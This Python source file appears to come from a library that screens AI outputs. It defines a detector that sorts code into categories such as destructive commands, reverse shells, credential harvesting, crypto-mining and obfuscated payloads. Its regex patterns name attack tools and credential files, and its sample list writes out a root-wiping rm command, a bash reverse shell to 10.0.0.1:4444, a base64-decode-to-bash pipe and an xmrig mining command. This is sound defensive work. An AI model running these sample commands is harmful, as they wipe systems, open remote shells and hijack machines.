"""Output categories a policy may allow or block per role: shell scripts, destructive
commands, privilege escalation, network code, reverse shells, credential harvesting,
crypto-mining and obfuscated payloads. Category CONTENT; the label names the category."""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import ClassVar

from mantlet.detectors.base import Detector, Match
from mantlet.detectors.code.extraction import extract_blocks
from mantlet.detectors.code.language import SHELL, identify
from mantlet.detectors.code.triggers import Detail, confirmed
from mantlet.findings import Category, Finding, Severity
from mantlet.patterns import Pattern
from mantlet.registry import register
from mantlet.text import Document, ViewKind

_I = re.IGNORECASE
_M = re.MULTILINE
_COMMANDS = (
    r"(?:apt(?:-get)?|yum|dnf|brew|pip3?|npm|yarn|curl|wget|chmod|chown|rm|mv|cp|mkdir|cd|ls|cat|"
    r"grep|echo|export|systemctl|docker|git|tar|ssh|scp|kubectl|make|python3?|node|cargo|bash|sh|"
    r"sed|awk|find|kill|service|iptables|nc|dd|mkfs|useradd|usermod|passwd|crontab)"
)
_CMD_START = r"(?:^|[`;&|]\s*|\$\s+|\bsudo\s+)"

# pattern name -> (label, score, severity, reason)
_KINDS: dict[str, tuple[str, float, Severity, str]] = {
    "rm_root": ("DESTRUCTIVE_COMMAND", 0.95, Severity.CRITICAL, "recursive delete of a root or home path"),
    "mkfs": ("DESTRUCTIVE_COMMAND", 0.9, Severity.CRITICAL, "formats a disk"),
    "dd_device": ("DESTRUCTIVE_COMMAND", 0.9, Severity.CRITICAL, "dd writes onto a raw device"),
    "fork_bomb": ("DESTRUCTIVE_COMMAND", 0.95, Severity.HIGH, "fork bomb"),
    "wipe": ("DESTRUCTIVE_COMMAND", 0.85, Severity.CRITICAL, "wipes a disk or system directory"),
    "drop_database": ("DESTRUCTIVE_COMMAND", 0.7, Severity.HIGH, "drops a database"),
    "sudo": ("PRIVILEGE_ESCALATION", 0.7, Severity.MEDIUM, "runs a command as root (sudo)"),
    "setuid": ("PRIVILEGE_ESCALATION", 0.85, Severity.HIGH, "setuid bit or uid 0"),
    "chmod_777": ("PRIVILEGE_ESCALATION", 0.8, Severity.MEDIUM, "world-writable permissions"),
    "sudoers": ("PRIVILEGE_ESCALATION", 0.85, Severity.HIGH, "edits sudo rights or admin groups"),
    "socket": ("NETWORK_CODE", 0.75, Severity.LOW, "opens network sockets"),
    "http_client": ("NETWORK_CODE", 0.6, Severity.LOW, "makes HTTP requests"),
    "reverse_shell": ("REVERSE_SHELL", 0.95, Severity.CRITICAL, "reverse shell"),
    "cred_files": ("CREDENTIAL_HARVESTING", 0.85, Severity.HIGH, "reads stored credentials"),
    "keylogger": ("CREDENTIAL_HARVESTING", 0.85, Severity.HIGH, "captures keystrokes or cookies"),
    "miner": ("CRYPTO_MINING", 0.9, Severity.HIGH, "crypto-mining"),
    "decode_exec": ("OBFUSCATED_PAYLOAD", 0.9, Severity.HIGH, "decodes a payload and runs it"),
    "blob_exec": ("OBFUSCATED_PAYLOAD", 0.85, Severity.HIGH, "long encoded blob run as code"),
    "shell_fence": ("SHELL_SCRIPT", 0.9, Severity.LOW, "shell script"),
    "shebang": ("SHELL_SCRIPT", 0.9, Severity.LOW, "shell script"),
    "prompt_line": ("SHELL_SCRIPT", 0.8, Severity.LOW, "shell one-liner"),
    "inline_command": ("SHELL_SCRIPT", 0.7, Severity.LOW, "shell one-liner"),
}  # fmt: skip

_DETAILS: tuple[Detail, ...] = (
    Detail("rm_root", r"\brm\s+(?:-{1,2}[\w-]+\s+)*(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)\s+(?:-{1,2}[\w-]+\s+)*(?:/\*?|~/?\*?|\$HOME/?\*?|\*|/(?:etc|usr|var|home|boot|bin|lib|root|opt|srv)/?\*?)(?=[\s;&|`'\"]|$)", _M, ("rm",)),
    Detail("mkfs", r"\bmkfs(?:\.\w+)?\s+(?:-\S+\s+)*/dev/\w+|\bformat\s+[a-z]:\s*(?:/\w+\s*)*$", _M | _I, ("mkfs", "format")),
    Detail("dd_device", r"\bdd\b[^\n]*\bof=/dev/(?:sd|hd|nvme|xvd|vd|mmcblk|disk|md|dm-)\w*|>\s*/dev/(?:sd[a-z]|nvme\d|hd[a-z])\b", 0, ("dd", "/dev/")),
    Detail("fork_bomb", r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:|\bwhile\s*\(?\s*(?:true|1)\s*\)?\s*;?\s*do\s+\S+\s*&\s*done|%0\|%0", 0, (":", "while", "%0"), r":\s*\(\s*\)\s*\{|\bwhile\s*\(?\s*(?:true|1)\b|%0\|%0"),
    Detail("wipe", r"\b(?:shred|wipefs)\s+(?:-\S+\s+)*/dev/\w+|\bRemove-Item\s+[^\n]*-Recurse[^\n]*\b[A-Z]:\\(?:Windows)?\\?\s*(?:-Force)?|\brd\s+/s\s+/q\s+[a-z]:\\\s*$|\bdel\s+/[fsq](?:\s+/[fsq])*\s+[a-z]:\\(?:windows\\)?\*?|\bfind\s+/\s+[^\n]*-delete\b|\bchmod\s+-R\s+0*0{3}\s+/\s*$", _M | _I, ("shred", "wipefs", "remove-item", "rd", "del", "find", "chmod"), r"\bshred\b|\bwipefs\b|remove-item|\brd\s+/s|\bdel\s+/|\bfind\s+/\s|\bchmod\s+-R\s+0"),
    Detail("drop_database", r"\bDROP\s+(?:DATABASE|SCHEMA)\s+(?:IF\s+EXISTS\s+)?\w+", _I, ("drop",)),
    Detail("sudo", _CMD_START + r"sudo\s+(?:-\S+\s+)*[a-z][\w.-]*", _M, ("sudo",)),
    Detail("setuid", r"\bchmod\s+(?:-R\s+)?(?:[ugoa]*\+[rwx]*s[rwx]*|[0-7]?[4-7][0-7]{3})\s|\bsetuid\s*\(\s*0\s*\)|\bos\.setuid\(\s*0\s*\)|\bsetreuid\s*\(\s*0|\bpkexec\b", 0, ("chmod", "setuid", "setreuid", "pkexec")),
    Detail("chmod_777", r"\bchmod\s+(?:-R\s+)?0?777\b|\bchmod\s+(?:-R\s+)?a\+rwx\b", 0, ("chmod",)),
    Detail("sudoers", r"/etc/sudoers|\bNOPASSWD\s*:|\bvisudo\b|\busermod\s+-a?G\s+(?:sudo|wheel|root|admin)\b|\bnet\s+localgroup\s+administrators\s+\S+\s+/add", _I, ("sudoers", "nopasswd", "visudo", "usermod", "localgroup")),
    Detail("socket", r"\bsocket\.socket\s*\(|\bsocket\s*\(\s*(?:AF_INET|PF_INET|AF_INET6)|\bnew\s+(?:Socket|ServerSocket|TcpClient|TcpListener|UdpClient|DatagramSocket)\s*\(|\bnet\.(?:createConnection|connect|createServer|Dial|Listen)\s*\(|\b(?:TcpStream|TcpListener|UdpSocket)::(?:connect|bind)\s*\(|\bfsockopen\s*\(|\bTCPSocket\.(?:new|open)\b|\bWebSocket\s*\(", 0, ("socket", "tcp", "udp", "net.", "fsockopen"), r"socket|tcp(?:client|listener|stream)|udp(?:client|socket)|net\.(?:createConnection|connect|createServer|Dial|Listen)|fsockopen|TCPSocket"),
    Detail("http_client", r"\brequests\.(?:get|post|put|delete|request)\s*\(|\burllib\.request\.urlopen\s*\(|\bhttp\.client\.HTTPS?Connection\s*\(|\bhttpx\.\w+\s*\(|\bfetch\s*\(\s*['\"`]https?://|\baxios\.(?:get|post)\s*\(|\bHttpURLConnection\b|\bnew\s+HttpClient\s*\(|\bhttp\.(?:Get|Post|NewRequest)\s*\(|\bcurl_init\s*\(|\breqwest::", 0, ("requests.", "urllib", "http", "fetch", "axios", "curl_init", "reqwest"), r"requests\.|urllib|http\.client|httpx\.|fetch\s*\(|axios\.|HttpURLConnection|HttpClient|http\.(?:Get|Post|NewRequest)|curl_init|reqwest::"),
    Detail("reverse_shell", r"/dev/(?:tcp|udp)/[\w.-]+/\d+|\bn(?:c|cat|etcat)\b[^\n|;]*\s-[ecl]*e\s*/bin/(?:ba|z)?sh\b|\bmkfifo\b[^\n]*\|\s*n(?:c|cat)\b|\bsocat\b[^\n]*exec:[^\n]*(?:sh|bash)|\bos\.dup2\s*\(\s*\w+\.fileno\(\)\s*,\s*[012]\s*\)|\bpty\.spawn\s*\(\s*['\"]/bin/(?:ba)?sh|System\.Net\.Sockets\.TCPClient\s*\([^\n]*(?:iex|Invoke-Expression|GetStream)|\bInvoke-PowerShellTcp\b|\bmsfvenom\b|\bmeterpreter\b|\bexec\s*\(\s*['\"]/bin/sh\s+-i|proc_open\s*\(\s*['\"]/bin/sh", _I, ("/dev/", "nc", "ncat", "netcat", "mkfifo", "socat", "dup2", "pty.spawn", "tcpclient", "powershelltcp", "msfvenom", "meterpreter", "/bin/sh"), r"/dev/(?:tcp|udp)/|\bn(?:c|cat|etcat)\s+-|mkfifo|socat|dup2|pty\.spawn|tcpclient|powershelltcp|msfvenom|meterpreter|/bin/sh"),
    Detail("cred_files", r"/etc/shadow\b|\bmimikatz\b|\bsekurlsa::|\blsass(?:\.exe|\.dmp)?\b[^\n]*(?:dump|minidump|procdump)|\breg\s+save\s+hklm\\(?:sam|security|system)\b|\bLogin Data\b|\.aws/credentials\b|\.git-credentials\b|\bwallet\.dat\b|\bbrowser_cookie3\b|\bLaZagne\b|\bhashdump\b|\bsecurity\s+(?:find|dump)-(?:generic|internet)-password|\bCredEnumerate[AW]?\b|\.ssh/id_(?:rsa|ed25519|ecdsa)\b[^\n]*(?:requests|curl|post|send|upload|nc\b)", _I, ("shadow", "mimikatz", "sekurlsa", "lsass", "reg", "login data", "credentials", "wallet.dat", "browser_cookie3", "lazagne", "hashdump", "security", "credenumerate", ".ssh")),
    Detail("keylogger", r"\bpynput\.keyboard\b|\bkeyboard\.on_press\b|\bGetAsyncKeyState\b|\bSetWindowsHookEx[AW]?\s*\(\s*WH_KEYBOARD|\bkeylogger\b|document\.cookie[^\n;]*(?:fetch|XMLHttpRequest|\.src\s*=|navigator\.sendBeacon|new\s+Image)|(?:fetch|new\s+Image\(\)\.src\s*=|sendBeacon)\s*\([^\n]*document\.cookie", _I, ("keyboard", "getasynckeystate", "setwindowshookex", "keylogger", "document.cookie")),
    Detail("miner", r"\bxmrig\b|stratum\+(?:tcp|ssl)://|\bminerd\b|\bcpuminer\b|\bcoinhive\b|\bcryptonight\b|--donate-level\b|\bethminer\b|\bnbminer\b|\bphoenixminer\b|\bt-rex\s+-a\b|\bCoinHive\.Anonymous\b", _I, ("xmrig", "stratum", "minerd", "cpuminer", "coinhive", "cryptonight", "donate-level", "ethminer", "nbminer", "phoenixminer", "t-rex")),
    Detail("decode_exec", r"\bbase64\s+(?:-d|--decode|-D)\b[^\n]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:eval|exec|assert)\s*\(\s*(?:base64_decode|gzinflate|gzuncompress|str_rot13|atob|base64\.b64decode|codecs\.decode|zlib\.decompress|marshal\.loads|bytes\.fromhex|Buffer\.from\s*\([^)]*['\"](?:base64|hex)['\"]\s*\))|\b(?:iex|Invoke-Expression)\b[^\n]*FromBase64String|\bpowershell(?:\.exe)?\s+(?:-\w+\s+)*-e(?:nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{20,}|\beval\s*\(\s*(?:unescape|String\.fromCharCode)\s*\(", _I, ("base64", "eval", "exec", "assert", "iex", "invoke-expression", "powershell")),
    Detail("blob_exec", r"(?:['\"][A-Za-z0-9+/]{80,}={0,2}['\"]|(?:\\x[0-9a-fA-F]{2}){40,})[^\n]{0,80}(?:\|\s*(?:ba|z)?sh\b|\)\s*\)?\s*;?\s*$)", _M, ("sh", ")"), r"['\"][A-Za-z0-9+/]{40}|(?:\\x[0-9a-fA-F]{2}){20}"),
    Detail("shell_fence", r"^[ \t]{0,3}(?:```|~~~)[ \t]*(?:sh|bash|shell|zsh|console|shell-session|terminal|powershell|ps1|bat|cmd)\b", _M | _I, ("```", "~~~")),
    Detail("shebang", r"^#!\s*/(?:usr/)?bin/(?:env\s+)?(?:ba|z|k|da)?sh\b", _M, ("#!",)),
    Detail("prompt_line", r"^[ \t]*(?:\$|PS [A-Z]:\\[^>]*>|C:\\[^>]*>)[ \t]+(?:sudo\s+)?" + _COMMANDS + r"\b[^\n]*", _M, ("$ ", "ps ", ":\\")),
    Detail("inline_command", r"`(?:sudo\s+)?" + _COMMANDS + r"\s+[^`\n]*(?:\s-{1,2}\w|\||&&|>|/)[^`\n]*`", 0, ("`",)),
)  # fmt: skip
DETAILS = {d.name: d for d in _DETAILS}
CONTENT_PATTERNS: tuple[Pattern, ...] = tuple(d.trigger() for d in _DETAILS)


@register
class OutputCategoryDetector(Detector):
    """Reports what kind of code an output contains, for per-role output policies."""

    name = "output_category"
    category = Category.CONTENT
    labels = tuple(sorted({label for label, *_ in _KINDS.values()}))
    patterns = CONTENT_PATTERNS
    views = frozenset({ViewKind.ORIGINAL, ViewKind.FOLDED, ViewKind.DECODED})
    examples: ClassVar[tuple[str, ...]] = (
        "Run `sudo rm -rf / --no-preserve-root` to clean up.",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "```bash\napt-get update\napt-get install -y nginx\n```",
        "echo ZWNobyBoaQ== | base64 -d | bash",
        "./xmrig -o stratum+tcp://pool.example.com:3333 -u WALLET",
    )
    counterexamples: ClassVar[tuple[str, ...]] = (
        "Never run rm -rf on a directory you have not checked.",
        "Remove the build folder with rm -rf ./build when you are done.",
        "You may need sudo privileges for that.",
        "```python\nprint('hello')\n```",
    )

    def detect(self, document: Document, matches: Sequence[Match]) -> Iterable[Finding]:
        shell_checked = False
        for detail, view, found in confirmed(matches, DETAILS):
            kind = detail.name
            label, score, severity, reason = _KINDS[kind]
            span = view.to_original(*found.span())
            hidden = view.kind == ViewKind.DECODED
            if kind == "shell_fence" or kind == "shebang":
                if not shell_checked:
                    shell_checked = True
                    yield from self._shell_blocks(document)
                continue
            if hidden:
                reason = f"{reason}, hidden in {view.encoding or 'an encoding'}"
                yield self.finding(
                    document, span, "OBFUSCATED_PAYLOAD", 0.9, Severity.HIGH, reason=reason
                )
            yield self.finding(document, span, label, score, severity, reason=reason)

    def _shell_blocks(self, document: Document) -> Iterable[Finding]:
        for block in extract_blocks(document.text):
            if block.text.strip() and identify(block.text, block.tag) == SHELL:
                yield self.finding(
                    document, (block.start, block.end), "SHELL_SCRIPT", 0.9, Severity.LOW,
                    reason="shell script",
                )  # fmt: skip
